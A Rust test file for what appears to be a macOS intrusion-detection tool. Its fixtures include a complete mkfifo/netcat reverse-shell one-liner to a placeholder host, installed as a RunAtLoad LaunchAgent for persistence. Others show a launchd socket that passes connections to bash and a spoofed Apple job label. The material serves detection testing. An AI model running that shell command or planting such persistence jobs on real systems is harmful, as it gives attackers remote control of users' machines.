//! Rules about jobs and the host: P09, P10, P11, P20.

use crate::story::{Lsof, Mac, Netstat, job};

const SHELL: &str =
    "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 >/tmp/f";

fn reverse_shell() -> Mac {
    let keys = "<key>RunAtLoad</key><true/>";
    let plist = job("com.user.sync", &["/bin/sh", "-c", SHELL], keys);
    Mac::new().plist("/Users/mira/Library/LaunchAgents/com.user.sync.plist", &plist)
}

#[test]
fn p09_a_reverse_shell_and_the_job_that_starts_it() {
    // S5 of scenarios.md: the job is known by its only declared target.
    let told = reverse_shell()
        .seen_by_root()
        .lsof(
            Lsof::tcp("nc", 5123, 0xe5, "192.0.2.24:51822->203.0.113.7:4444 (ESTABLISHED)")
                .fd("3u"),
        )
        .ps(5120, "mira", "01:12:00", &format!("/bin/sh -c {SHELL}"))
        .ps(5123, "mira", "01:12:00", "nc 203.0.113.7 4444")
        .loaded(Some(5120), "com.user.sync")
        .told();
    let expected = [
        ("P09", 60),
        ("P08", 5),
        ("persistence", 10),
        ("destination-public", 10),
        ("port-registered", 5),
        ("declared-and-observed", 5),
        ("P14", 10),
    ];
    told.scores(&["P09", "P08"], &expected, 100);
    assert_eq!(told.binding(4444).service.as_deref(), Some("com.user.sync"));
}

#[test]
fn p09_of_a_job_that_was_only_declared_is_capped() {
    let told = reverse_shell().loaded(None, "com.user.sync").told();
    let anomaly = told.only_anomaly();
    assert_eq!(anomaly.rules, ["P09"]);
    assert_eq!(anomaly.score, 59, "{}", anomaly.explanation);
    assert_eq!(anomaly.severity.as_str(), "medium");
}

#[test]
fn p09_is_silent_where_a_job_runs_a_script_without_a_socket() {
    let plist =
        job("com.user.sync", &["/bin/sh", "-c", "rsync -a /a /b"], "<key>RunAtLoad</key><true/>");
    Mac::new()
        .plist("/Users/mira/Library/LaunchAgents/com.user.sync.plist", &plist)
        .told()
        .is_quiet();
}

fn socket_job(program: &str, inetd: &str) -> Mac {
    let keys = format!(
        "<key>Sockets</key><dict><key>L</key><dict><key>SockServiceName</key><string>2222</string></dict></dict>{inetd}"
    );
    Mac::new()
        .plist(
            "/Library/LaunchDaemons/com.system.check.plist",
            &job("com.system.check", &[program, "-i"], &keys),
        )
        .lsof(Lsof::tcp6("launchd", 1, 0xa1, "*:2222 (LISTEN)").root())
        .lsof(Lsof::tcp("launchd", 1, 0xa2, "*:2222 (LISTEN)").root())
        .tcp(Netstat::listens("tcp6", "*.2222"))
        .tcp(Netstat::listens("tcp4", "*.2222"))
        .loaded(None, "com.system.check")
}

#[test]
fn p09_and_p04_launchd_hands_every_connection_to_a_shell() {
    // S2 of scenarios.md.
    let inetd = "<key>inetdCompatibility</key><dict><key>Wait</key><false/></dict>";
    let told = socket_job("/bin/bash", inetd).told();
    let expected = [
        ("P09", 60),
        ("P04", 5),
        ("persistence", 10),
        ("scope-exposed", 10),
        ("port-registered", 5),
        ("declared-and-observed", 5),
        ("P14", 10),
    ];
    told.scores(&["P09", "P04"], &expected, 100);
}

#[test]
fn p09_is_silent_where_the_program_is_no_shell() {
    let inetd = "<key>inetdCompatibility</key><dict><key>Wait</key><false/></dict>";
    let told = socket_job("/usr/local/acme/checkd", inetd).told();
    assert_eq!(told.only_anomaly().rules, ["P04"]);
}

#[test]
fn p09_a_shell_with_a_connection_as_its_input() {
    let told = Mac::new()
        .seen_by_root()
        .lsof(
            Lsof::tcp("zsh", 9840, 0x31, "192.0.2.24:51017->198.51.100.61:443 (ESTABLISHED)")
                .fd("0u"),
        )
        .ps(9840, "root", "00:20", "/bin/zsh -i")
        .told();
    let anomaly = told.only_anomaly();
    assert_eq!(anomaly.rules[0], "P09");
    assert!(anomaly.score >= 60, "{}", anomaly.explanation);
    // On another descriptor it is a client like any other.
    Mac::new()
        .seen_by_root()
        .lsof(
            Lsof::tcp("zsh", 9840, 0x31, "192.0.2.24:51017->198.51.100.61:443 (ESTABLISHED)")
                .fd("12u"),
        )
        .ps(9840, "root", "00:20", "/bin/zsh -i")
        .told()
        .is_quiet();
}

#[test]
fn p10_a_running_job_whose_declared_port_nobody_holds() {
    let plist = job("com.acme.web", &["/usr/local/acme/webd", "--port", "9551"], "");
    let mac = Mac::new()
        .plist("/Library/LaunchDaemons/com.acme.web.plist", &plist)
        .seen_by_root()
        .ps(710, "root", "1-00:00:00", "/usr/local/acme/webd --port 9551")
        .loaded(Some(710), "com.acme.web");
    let told = mac.clone().told();
    let anomaly = told.only_anomaly();
    assert_eq!(anomaly.rules, ["P10"]);
    assert_eq!(anomaly.severity.as_str(), "info");
    // The twin: it holds it.
    let told = mac.lsof(Lsof::tcp("webd", 710, 9, "*:9551 (LISTEN)").root()).told();
    assert!(told.0.anomalies.iter().all(|anomaly| !anomaly.rules.contains(&"P10")));
}

#[test]
fn p11_an_apple_label_on_a_job_that_is_not_apples() {
    let plist = job("com.apple.helperd", &["/usr/local/acme/helperd"], "");
    let told = Mac::new().plist("/Library/LaunchDaemons/com.apple.helperd.plist", &plist).told();
    assert_eq!(told.only_anomaly().rules, ["P11"]);
    assert_eq!(told.only_anomaly().score, 30);
    let plist = job("com.apple.helperd", &["/usr/libexec/helperd"], "");
    Mac::new()
        .plist("/System/Library/LaunchDaemons/com.apple.helperd.plist", &plist)
        .told()
        .is_quiet();
}

#[test]
fn p11_is_not_fooled_by_invisible_characters() {
    let plist = job("com.apple.\u{202e}gnp.x", &["/usr/local/acme/x"], "");
    let told = Mac::new().plist("/Library/LaunchDaemons/x.plist", &plist).told();
    assert_eq!(told.only_anomaly().rules, ["P11"]);
}

#[test]
fn p20_sshd_config_asks_for_a_port_that_launchd_ignores() {
    let told = Mac::new().plist("/private/etc/ssh/sshd_config", "Port 2222\n").told();
    let anomaly = told.only_anomaly();
    assert_eq!((anomaly.rules.as_slice(), anomaly.score), (["P20"].as_slice(), 5));
    Mac::new().plist("/private/etc/ssh/sshd_config", "Port 22\n").told().is_quiet();
}
